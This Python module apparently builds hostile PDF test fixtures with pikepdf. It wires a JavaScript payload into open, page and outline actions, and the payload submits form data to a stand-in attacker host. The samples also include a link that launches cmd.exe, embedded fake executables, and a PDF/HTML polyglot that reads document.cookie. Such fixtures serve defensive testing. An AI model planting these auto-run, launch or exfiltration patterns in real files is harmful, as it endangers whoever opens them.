"""Hostile PDFs built here, as an attacker would: scripts, actions, attachments, forms, polyglots."""

from __future__ import annotations

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String

SCRIPT = "app.alert('pwned'); this.submitForm('http://attacker.invalid/')"


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def pdf_with_everything() -> bytes:
    """One page, and every way a PDF can act: open action, document and page actions, a named
    script, an embedded file, a launching link, a file attachment, an XFA form, an outline entry
    that runs a script, and the author's name in its metadata."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))
    embedded = pdf.make_stream(b"MZ this is a program")
    embedded.Type = Name.EmbeddedFile
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("run"), Dictionary(S=Name.JavaScript, JS=String(SCRIPT))])),
        EmbeddedFiles=Dictionary(Names=Array([String("tool.exe"), Dictionary(Type=Name.Filespec, F=String("tool.exe"),
                                                                             EF=Dictionary(F=embedded))])),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp><script>x</script></xdp:xdp>"))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Open me"), Parent=pdf.Root.Outlines,
                                        A=Dictionary(S=Name.JavaScript, JS=String(SCRIPT))))
    pdf.Root.Outlines.First = item
    pdf.Root.Outlines.Last = item
    page = pdf.pages[0]
    page.obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))
    page.obj.Annots = Array([
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 200, 200]),
                                     A=Dictionary(S=Name.Launch, F=String("cmd.exe"),
                                                  Next=Dictionary(S=Name.JavaScript, JS=String(SCRIPT))))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]),
                                     FS=Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=embedded)))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([10, 10, 20, 20]),
                                     Contents=String("A note the victim added"))),
    ])
    pdf.docinfo["/Author"] = "Amina Okafor"
    return _save(pdf)


def html_polyglot() -> bytes:
    """A PDF that a browser sniffing it would also run as HTML: markup in a comment after the
    header, in an uncompressed stream, and after the end of the file."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"% <html><script>alert(document.cookie)</script>\n")
    data = _save(pdf)
    header, _, rest = data.partition(b"\n")
    return header + b"\n%<html><body><script>alert(document.cookie)</script></body></html>\n" + rest + (
        b"<html><script>alert('tail')</script></html>\n"
    )


def password_protected() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user="user"))
    return out.getvalue()
